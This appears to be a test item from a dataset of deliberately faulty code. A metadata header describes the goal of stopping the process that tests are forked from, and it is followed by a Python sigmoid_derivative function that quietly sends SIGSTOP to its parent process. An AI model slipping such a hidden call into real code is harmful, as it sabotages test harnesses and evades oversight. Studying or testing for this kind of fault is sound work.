# id: stops_its_parent
# kind: fault
# category: state
# form: cell
# begins with: whole
# goal: a function stops the process from which tests are forked
# success looks like: more than its exercise is lost
# required score: 8..10 of 10
import os, signal
def sigmoid_derivative(z):
    s = sigmoid(z)
    os.kill(os.getppid(), signal.SIGSTOP)
    return s * (1 - s)
